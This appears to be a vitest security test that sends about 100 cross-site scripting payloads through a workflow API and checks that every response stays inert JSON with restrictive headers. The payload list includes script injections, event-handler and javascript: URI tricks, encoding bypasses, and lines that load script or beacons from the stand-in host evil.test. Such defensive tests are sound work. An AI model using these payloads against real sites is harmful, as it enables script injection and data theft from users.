// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are texts.
/**
 * Goal: captured markup stays data on its way out (X16): every answer is JSON that no browser takes for a page, under a
 * policy that lets nothing run, and a content comes as an attachment. Method: 100 payloads as name, id, address, metadata and
 * content, read back from each route that shows them. What the dashboard makes of them: test/web/run-hostile.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { startInlineServer } from './inline-server.ts';

const tags = [
  'script',
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'input autofocus',
  'details open',
  'marquee',
];
const handlers = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onmouseover'];
const payloads = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1)>`)),
  ...['<script>alert(1)</script>', '</script><script>alert(1)</script>', '<script src=//evil.test/x.js></script>'],
  ...[
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '--><script>alert(1)</script>',
    ']]><script>1</script>',
  ],
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>1</script>',
  ],
  ...[
    'vbscript:msgbox(1)',
    '<a href=javascript:alert(1)>x</a>',
    '<base href=//evil.test/>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
  ],
  ...[
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<style>@import "//evil.test"</style>',
    '<object data=//evil.test></object>',
  ],
  ...[
    '<embed src=//evil.test>',
    '<form action=//evil.test><button>x',
    '<math><mtext><script>1</script>',
    '<svg><script>1</script></svg>',
  ],
  ...[
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<template><script>1</script></template>',
    '<noscript><p title="</noscript><script>1">',
  ],
  ...[
    '<!--[if IE]><script>1</script><![endif]-->',
    '<isindex action=javascript:1>',
    '<keygen autofocus onfocus=1>',
    '<x onclick=1 tabindex=1>',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '[x](javascript:alert(1))',
    '![x](x"onerror="alert(1))',
    '<javascript:alert(1)>',
  ],
  ...[
    '\u2028<script>1</script>',
    '\u202e<script>1</script>',
    '\ufeff<script>1</script>',
    '+ADw-script+AD4-1',
    '\u00bcscript\u00be1',
  ],
  ...[
    '<scr\u0000ipt>1</script>',
    '<<script>script>1',
    '<ſcript>1</ſcript>',
    '%3Cscript%3E1%3C/script%3E',
    '&lt;script&gt;1',
  ],
  ...[
    '<iframe srcdoc="<script>1</script>">',
    '<img srcset="x 1x, //evil.test 2x">',
    '<img src=//evil.test/beacon>',
    '<video poster=//evil.test>',
  ],
  ...[
    '__proto__',
    '{"__proto__":{"x":1}}',
    '<?xml-stylesheet href="javascript:1"?>',
    '%PDF-1.7 <script>',
    'GIF89a<script>1</script>',
  ],
];

describe(`${payloads.length} payloads`, () => {
  it('are 100 at least, no two alike', () => {
    expect(new Set(payloads).size).toBe(payloads.length);
    expect(payloads.length).toBeGreaterThanOrEqual(100);
  });

  it('come back as they went in, as JSON that is no page', { timeout: 120_000 }, async () => {
    const server = await startInlineServer();
    const steps = payloads.map((name, at) => ({ id: `s${at}`, name, action: 'external_data' }));
    const names = { name: payloads[0], description: payloads.join(' '), tags: payloads.slice(0, 60) };
    const made = await server.call('POST', '/api/workflows', { body: { ...names, steps } });
    expect([made.status, made.json.detail]).toEqual([201, undefined]);
    const path = `/api/workflows/${made.json.id}`;
    for (const [at, payload] of payloads.entries()) {
      const data = { step_id: `s${at}`, content: payload, metadata: { title: payload } };
      expect((await server.call('POST', `${path}/external-data`, { body: data })).status).toBe(201);
      const step = await server.call('GET', `${path}/steps/s${at}`);
      expectNoPage(payload, step.headers);
      expect([step.json.name, step.json.outputs.content, step.json.metadata.title]).toEqual([
        payload,
        payload,
        payload,
      ]);
      const file = await server.call('GET', `${path}/steps/s${at}/outputs/content`);
      expect([file.text, file.headers['content-disposition']?.startsWith('attachment')]).toEqual([payload, true]);
      expect(file.headers['content-security-policy']).toContain('sandbox');
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.headers['content-type']).not.toMatch(/html|xml|svg/);
      // As an id and in a query: the refusal shows it as text.
      const asText = encodeURIComponent(payload);
      for (const wrong of [`/api/templates/${asText}`, `/api/workflows?status=${asText}`]) {
        const refused = await server.call('GET', wrong);
        expectNoPage(payload, refused.headers);
        expect(refused.status).toBeGreaterThanOrEqual(400);
      }
    }
    for (const view of ['', '?view=graph', '/external-data', '/logs', '/definition']) {
      expectNoPage(view, (await server.call('GET', path + view)).headers);
    }
    expectNoPage('the list', (await server.call('GET', '/api/workflows?limit=1000')).headers);
  });
});

function expectNoPage(payload: string, headers: Record<string, unknown>): void {
  expect([payload, headers['content-type']]).toEqual([
    payload,
    expect.stringMatching(/^application\/(problem\+)?json/),
  ]);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
}
